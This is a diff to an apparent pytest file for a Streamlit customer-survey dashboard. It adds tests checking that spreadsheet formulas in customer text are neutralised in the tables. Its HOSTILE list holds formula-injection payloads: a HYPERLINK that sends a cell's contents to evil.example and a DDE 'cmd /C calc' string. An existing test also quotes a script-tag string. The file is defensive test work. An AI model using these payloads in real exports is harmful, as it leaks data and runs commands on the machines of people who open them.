@@ -2,8 +2,9 @@
 the key numbers present and equal to the report CLI's, clear messages for
 an empty or missing store, a response alone, a driver nobody mentioned;
 customer text never rendered as markdown; pseudonyms, never phone numbers;
-headers and chart labels in Polish; every page at its own address under a
-real `streamlit run`."""
+headers and chart labels in Polish; text that a spreadsheet would run as a
+formula neutralised in every table; every page at its own address under a
+real `streamlit run`. (Login and roles: test_auth.py.)"""
 
 from __future__ import annotations
 
@@ -21,6 +22,7 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
+from streamlit import config as st_config
 from streamlit.proto.BackMsg_pb2 import BackMsg
 from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
 from streamlit.testing.v1 import AppTest
@@ -28,7 +30,7 @@ from tornado.websocket import websocket_connect
 
 from analytics import tracker_source
 from analytics.dashboard import app
-from analytics.dashboard.widgets import HEADERS, VALUES
+from analytics.dashboard.widgets import FORMULA_STARTS, HEADERS, VALUES, neutralise
 from analytics.db import writable_engine
 from analytics.drivers import GENERIC, Catalogue
 from analytics.generate import generate
@@ -56,6 +58,16 @@ def texts(at: AppTest) -> str:
 
 def frames(at: AppTest) -> str:
     return "\n".join(e.value.to_csv() for e in at.dataframe)
+
+
+@pytest.fixture(autouse=True)
+def on_loopback(monkeypatch):
+    """The dashboard as make run starts it by default: on loopback, no login."""
+    before = st_config.get_option("server.address")
+    st_config.set_option("server.address", "127.0.0.1")
+    monkeypatch.delenv("NPS_HOST", raising=False)
+    yield
+    st_config.set_option("server.address", before)
 
 
 @pytest.fixture
@@ -213,6 +225,78 @@ def test_live_shows_pseudonyms(one_response, env):
     assert "<script>alert(1)</script> **tanio**" in table  # the customer's words, as data
 
 
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?"&B2,"Szczegóły")',
+    "+48 600 100 200 zadzwońcie",
+    "-1+1 cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_neutralise_prefixes_formulas_and_leaves_the_rest():
+    frame = pd.DataFrame(
+        {
+            "reason": [*HOSTILE, "dobra obsługa", None],
+            "change": [-3.5] * len(HOSTILE) + [1.0, None],
+            "nps_score": pd.array([1] * len(HOSTILE) + [9, None], dtype="Int64"),
+        }
+    )
+    shown = neutralise(frame)
+    assert shown["reason"].tolist()[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
+    assert shown["reason"].tolist()[len(HOSTILE) :] == ["dobra obsługa", None]
+    pd.testing.assert_series_equal(shown["change"], frame["change"])
+    pd.testing.assert_series_equal(shown["nps_score"], frame["nps_score"])
+    assert frame["reason"][0] == HOSTILE[0]  # the caller's frame is left as it is
+
+
+@pytest.fixture
+def hostile_reasons(tmp_path):
+    url = f"sqlite:///{tmp_path / 'hostile.db'}"
+    conversations = [
+        Conversation(f"formula-{i}", "rest", start=1_700_000_000.0 + 100 * i)
+        .session()
+        .user("hej")
+        .slot("touchpoint", "store")
+        .form()
+        .slot("nps_score", 2)
+        .user(text)
+        .slot("reason", text)
+        .slot("drivers", ["delivery:neg"])
+        .form(None)
+        .slot("survey_outcome", "finished")
+        for i, text in enumerate(HOSTILE)
+    ]
+    write(url, *conversations)
+    return url
+
+
+def _cells(at: AppTest) -> list[str]:
+    return [
+        value
+        for frame in at.dataframe
+        for column in frame.value.columns
+        for value in frame.value[column].tolist()
+        if isinstance(value, str)
+    ]
+
+
+@pytest.mark.parametrize("name", ["drivers", "live"])
+def test_formulas_in_a_reason_are_neutralised_in_the_tables(name, hostile_reasons, env):
+    """What st.dataframe shows is what its "Download as CSV" writes."""
+    env(hostile_reasons)
+    at = page(name).run()
+    if name == "drivers":
+        at.selectbox(key="drivers_pick").set_value("delivery").run()
+    assert not at.exception
+    cells = _cells(at)
+    for text in HOSTILE:
+        # (the projection may strip the leading tab or carriage return)
+        assert "'" + text in cells or "'" + text.strip() in cells, text
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
+
+
 class _StandInBot(BaseHTTPRequestHandler):
     received: list = []
 
@@ -254,9 +338,10 @@ def test_try_the_bot(stand_in_bot, env, one_response):
     at = page("try_bot").run()
     at.chat_input(key="bot_input").set_value("cześć").run()
     assert not at.exception
-    assert stand_in_bot[0]["message"] == "cześć" and stand_in_bot[0]["sender"].startswith(
-        "dashboard-"
-    )
+    # A test chat: analytics leaves conversations rest:try-<uuid> out.
+    sender = stand_in_bot[0]["sender"]
+    assert stand_in_bot[0]["message"] == "cześć" and sender.startswith("try-")
+    assert len(sender) == len("try-") + 32
     assert "Jak bardzo polecisz nas znajomym? (0-10)" in texts(at)
     at.button(key="bot_button_2_8").click().run()
     assert not at.exception
